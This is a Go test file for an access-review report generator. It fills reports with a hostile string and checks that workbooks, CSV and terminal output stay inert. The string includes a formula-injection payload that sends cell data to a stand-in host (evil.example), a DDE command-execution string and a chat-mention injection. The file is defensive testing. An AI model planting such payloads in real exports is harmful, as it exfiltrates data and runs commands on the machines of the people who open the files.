package report

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"reflect"
	"regexp"
	"strings"
	"testing"

	"rollcall/connectors"
	"rollcall/scanner"
)

// hostile is what somebody may call an account, an app, or themselves.
const hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Keep\") <!channel> <https://evil.example|Keep> +cmd|' /C calc'!A0 &R&\"x\""

// poison sets every text in a value, but for those of a closed set of words.
func poison(v reflect.Value) {
	switch v.Kind() {
	case reflect.Pointer, reflect.Interface:
		if !v.IsNil() {
			poison(v.Elem())
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Field(i).CanSet() {
				poison(v.Field(i))
			}
		}
	case reflect.Slice:
		for i := range v.Len() {
			poison(v.Index(i))
		}
	case reflect.String:
		switch v.Interface().(type) {
		case scanner.Kind, scanner.SourceState, Verdict, ActionResult:
		default:
			v.SetString(hostile)
		}
	}
}

// poisoned is the sample with hostile text wherever text can be.
func poisoned() (*Review, []AccountRow) {
	r, accounts := filled(), sampleAccounts()
	people := map[connectors.PersonID]*scanner.Person{}
	for _, id := range []connectors.PersonID{"E100", "E101", "E102", "E103"} {
		people[id] = r.Person(id)
		poison(reflect.ValueOf(people[id].Now).Elem())
	}
	for _, v := range []any{r.Result, r.Exceptions, r.Register, r.Decisions, r.Actions, r.SignOff, &r.Change, accounts} {
		poison(reflect.ValueOf(v))
	}
	r.Run, r.By, r.Version, r.Config, r.Policy, r.Manifest, r.Filter = hostile, hostile, hostile, hostile, hostile, hostile, hostile
	r.Person = func(connectors.PersonID) *scanner.Person { return people["E101"] }
	r.NextStep = func(scanner.Kind, string) string { return hostile }
	return r, accounts
}

// Whatever sources and people write, a workbook has no formula, no link and nothing from outside; the text is a text.
func TestHostileTextIsInertInWorkbooks(t *testing.T) {
	r, accounts := poisoned()
	file := workbook(t, r, rows(accounts...), maxRows)
	z, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	formula, outside := regexp.MustCompile(`<f[ >/]`), regexp.MustCompile(`TargetMode="External"|<hyperlink|<oleObject|<externalLink|<webPublishing|ddeLink`)
	for _, entry := range z.File {
		f, err := entry.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(f)
		if err != nil {
			t.Fatal(err)
		}
		if strings.HasPrefix(entry.Name, "xl/charts/") { // a chart says in such an element which cells it shows
			b = regexp.MustCompile(`<f>&#39;Summary&#39;![$A-Z0-9:]+</f>`).ReplaceAll(b, nil)
		}
		if formula.Match(b) {
			t.Errorf("%s has a formula", entry.Name)
		}
		if outside.Match(b) {
			t.Errorf("%s has a link", entry.Name)
		}
		if strings.Contains(entry.Name, "chart") && bytes.Contains(b, []byte("evil")) {
			t.Errorf("%s holds data", entry.Name)
		}
	}
	f := open(t, file)
	for sheet, cell := range map[string]string{"Population": "D5", "Findings": "K5", "Decisions": "G5", "Remediation log": "H5", "Exceptions": "H5", "Service accounts": "C5"} {
		if got, err := f.GetCellValue(sheet, cell); err != nil || got != hostile {
			t.Errorf("%s %s is %q (%v)", sheet, cell, got, err)
		}
	}
	for _, n := range f.GetDefinedName() {
		if strings.Contains(n.RefersTo, "evil") {
			t.Errorf("the name %s refers to %s", n.Name, n.RefersTo)
		}
	}
}

// The same text does nothing in CSV, and on a terminal.
func TestHostileTextIsInertElsewhere(t *testing.T) {
	r, _ := poisoned()
	var b bytes.Buffer
	if err := WriteCSV(&b, r.Result.Findings); err != nil {
		t.Fatal(err)
	}
	lines, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(lines) < 2 {
		t.Fatalf("%d lines, %v", len(lines), err)
	}
	for _, line := range lines[1:] {
		for _, cell := range line {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Fatalf("a cell would be run: %q", cell)
			}
		}
	}
	b.Reset()
	if err := WriteTable(&b, r, TableOptions{Width: 100}); err != nil {
		t.Fatal(err)
	}
	if bytes.ContainsAny(b.Bytes(), "\x1b\x07\r") {
		t.Error("the terminal is steered")
	}
}
